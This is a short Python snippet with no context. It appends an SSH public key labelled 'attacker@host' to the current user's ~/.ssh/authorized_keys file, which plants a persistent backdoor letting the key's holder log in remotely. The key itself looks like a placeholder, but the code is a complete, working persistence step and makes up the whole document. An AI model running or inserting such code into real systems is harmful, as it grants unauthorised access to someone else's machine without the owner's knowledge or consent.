import os
with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as f:
    f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample attacker@host\n")
